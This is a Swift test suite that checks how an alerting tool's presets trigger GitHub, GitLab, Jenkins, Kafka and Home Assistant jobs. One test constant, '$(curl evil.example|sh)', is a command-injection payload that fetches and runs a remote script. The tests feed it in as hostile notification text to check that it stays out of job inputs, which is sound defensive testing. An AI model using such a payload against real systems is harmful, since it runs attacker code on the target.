import CEL
import Core
import Foundation
import Sinks
import Testing
import Transport

enum GitHubPreset {
    static let sample = PresetSample(
        kind: "github",
        values: [
            "owner": .string("example"), "repository": .string("pipeline"), "token": .secret(Secret("ghp_s3cret")),
        ],
        secrets: ["ghp_s3cret"], success: (204, ""), answers: answers,
        onLoopback: { ["api": .string($0), "owner": .string("a"), "repository": .string("b"), "token": .string("t")] })

    static let answers = [
        PresetAnswer(status: 422, body: #"{"message":"shape"}"#, outcome: "refused"),
        PresetAnswer(status: 404, body: "", outcome: "refused"),
        PresetAnswer(status: 403, body: #"{"message":"no rights"}"#, outcome: "refused"),
        PresetAnswer(
            status: 403, body: "", fields: [HeaderField("Retry-After", "60")], outcome: "throttled",
            after: .seconds(60)),
        PresetAnswer(
            status: 403, body: "",
            fields: [
                HeaderField("X-RateLimit-Remaining", "0"),
                HeaderField("X-RateLimit-Reset", "\(Sample.now.seconds + 90)"),
            ], outcome: "throttled", after: .seconds(90)),
        PresetAnswer(status: 500, body: "", outcome: "failed"),
    ]
}

enum GitHubWorkflowPreset {
    static let sample = PresetSample(
        kind: "github-workflow",
        values: [
            "owner": .string("example"), "repository": .string("pipeline"), "workflow": .string("upscale.yaml"),
            "token": .secret(Secret("ghp_s3cret")),
            "inputs": .stringMap([NamedText(name: "image", value: .plain("resource_id"))]),
        ],
        secrets: ["ghp_s3cret"], success: (204, ""), answers: GitHubPreset.answers,
        onLoopback: {
            [
                "api": .string($0), "owner": .string("a"), "repository": .string("b"), "workflow": .string("w"),
                "token": .string("t"),
            ]
        })
}

enum GitLabPreset {
    static let sample = PresetSample(
        kind: "gitlab", values: ["project": .string("example/pipeline"), "token": .secret(Secret("glptt-s3cret"))],
        secrets: ["glptt-s3cret"], success: (201, #"{"id":1}"#),
        answers: [
            PresetAnswer(status: 400, body: #"{"message":"no ref"}"#, outcome: "refused"),
            PresetAnswer(status: 404, body: "", outcome: "refused"),
            PresetAnswer(
                status: 429, body: "", fields: [HeaderField("Retry-After", "5")], outcome: "throttled",
                after: .seconds(5)),
        ],
        onLoopback: { ["api": .string($0), "project": .string("1"), "token": .string("t")] })
}

enum JenkinsPreset {
    static let sample = PresetSample(
        kind: "jenkins",
        values: ["url": .string("https://jenkins.example.com"), "token": .secret(Secret("jen-s3cret"))],
        secrets: ["jen-s3cret"], success: (200, #"{"jobs":{}}"#),
        answers: [
            PresetAnswer(status: 404, body: #"{"message":"Did not find any jobs"}"#, outcome: "refused"),
            PresetAnswer(status: 503, body: "", outcome: "failed"),
        ],
        onLoopback: { ["url": .string($0), "token": .string("t")] })
}

enum KafkaPreset {
    static let sample = PresetSample(
        kind: "kafka-rest",
        values: [
            "url": .string("https://kafka.example.com"), "cluster": .string("c1"), "topic": .string("alerts"),
            "username": .string("me"), "password": .secret(Secret("kafka-s3cret")),
        ],
        secrets: ["kafka-s3cret"], success: (200, #"{"error_code":200,"offset":1}"#),
        answers: [
            PresetAnswer(status: 200, body: #"{"error_code":40403,"message":"no topic"}"#, outcome: "failed"),
            PresetAnswer(status: 200, body: #"{"error_code":422,"message":"bad"}"#, outcome: "refused"),
            PresetAnswer(status: 200, body: #"{"error_code":429}"#, outcome: "throttled", after: .seconds(5)),
            PresetAnswer(status: 404, body: #"{"message":"no cluster"}"#, outcome: "refused"),
        ],
        onLoopback: { ["url": .string($0), "cluster": .string("c"), "topic": .string("t")] })
}

enum HomeAssistantPreset {
    static let sample = PresetSample(
        kind: "home-assistant",
        values: ["url": .string("https://home.example.com"), "webhook_id": .secret(Secret("ha-s3cret"))],
        secrets: ["ha-s3cret"], success: (200, ""),
        answers: [PresetAnswer(status: 502, body: "", outcome: "failed")],
        onLoopback: { ["url": .string($0), "webhook_id": .string("w")] })
}

@Suite struct `Presets that start jobs` {
    private static let stranger = "$(curl evil.example|sh)"

    private func notification() -> AlertNotification {
        Sample.notification(
            title: [.literal(Self.stranger)], text: [.literal(Self.stranger)],
            alerts: [Sample.alert(current: Sample.generation(prompt: Self.stranger))])
    }

    @Test(arguments: [GitHubPreset.sample, GitHubWorkflowPreset.sample, GitLabPreset.sample, JenkinsPreset.sample])
    func `send ids and enumerated values, and nothing that a stranger wrote`(_ sample: PresetSample) async throws {
        let request = try #require(try await sample.requests([notification()]).first)
        #expect(!request.bodyText.contains("curl"))
        #expect(request.bodyText.contains("img_01k"))
    }

    @Test(arguments: [GitHubPreset.sample, GitLabPreset.sample, JenkinsPreset.sample])
    func `send text too where that is allowed, in letters and digits`(_ sample: PresetSample) async throws {
        let http = sample.taking()
        let sink = try sample.sink(http, adding: ["allow_text": .boolean(true)])
        _ = await sink.attempt(Sample.delivery(notification()), at: Sample.now)
        let request = http.requests[0]
        #expect(!request.bodyText.contains("curl"))
        let encoded =
            request.json.text("client_payload.notification") ?? request.json.text("notification")
            ?? request.form["variables[AUSPEX_NOTIFICATION]"]
        let document = try #require(Data(base64Encoded: encoded ?? ""))
        #expect(String(decoding: document, as: UTF8.self).contains(#""title":"$(curl evil.example|sh)""#))
    }

    @Test func `GitHub gets a repository dispatch`() async throws {
        let request = try #require(try await GitHubPreset.sample.requests([Sample.notification()]).first)
        #expect(request.url == "https://api.github.com/repos/example/pipeline/dispatches")
        #expect(request.json.text("event_type") == "auspex")
        #expect(request.json.text("client_payload.type") == "alert.fired")
        #expect(request.json.text("client_payload.alerts.0.resource_id") == "img_01k")
        #expect(try #require(request.json.at("client_payload")?.keys).count <= 10)
    }

    @Test func `GitHub gets a workflow's declared inputs and no others`() async throws {
        let request = try #require(try await GitHubWorkflowPreset.sample.requests([Sample.notification()]).first)
        #expect(request.url.hasSuffix("/repos/example/pipeline/actions/workflows/upscale.yaml/dispatches"))
        #expect(request.json.at("inputs")?.keys == ["image"])
        #expect(request.json.text("inputs.image") == "img_01k")
        #expect(request.json.text("ref") == "main")
    }

    @Test func `GitLab gets variables of fixed names`() async throws {
        let request = try #require(try await GitLabPreset.sample.requests([Sample.notification()]).first)
        #expect(request.url == "https://gitlab.com/api/v4/projects/example%2Fpipeline/trigger/pipeline")
        #expect(request.form["variables[AUSPEX_RESOURCE_ID]"] == "img_01k")
        #expect(request.form["variables[AUSPEX_NOTIFICATION]"] == nil)
        #expect(request.form["token"] == "glptt-s3cret")
    }

    @Test func `Jenkins gets its token in a header field, and Kafka the callback under the alert's key`() async throws {
        let jenkins = try #require(try await JenkinsPreset.sample.requests([Sample.notification()]).first)
        #expect(jenkins.url == "https://jenkins.example.com/generic-webhook-trigger/invoke")
        #expect(jenkins.headerFields.contains(HeaderField("token", "jen-s3cret")))
        let kafka = try #require(try await KafkaPreset.sample.requests([notification()]).first)
        #expect(kafka.url == "https://kafka.example.com/v3/clusters/c1/topics/alerts/records")
        #expect(kafka.json.text("key.data") == Sample.alert().id.rawValue)
        #expect(kafka.json.text("value.data.data.title") == Self.stranger)
    }

    @Test func `Home Assistant gets what an automation needs`() async throws {
        let request = try #require(try await HomeAssistantPreset.sample.requests([Sample.notification()]).first)
        #expect(request.url == "https://home.example.com/api/webhook/ha-s3cret")
        #expect(request.json.text("title") == "🟠 Refused: a cat")
        #expect(request.json.text("resource_id") == "img_01k")
    }
}
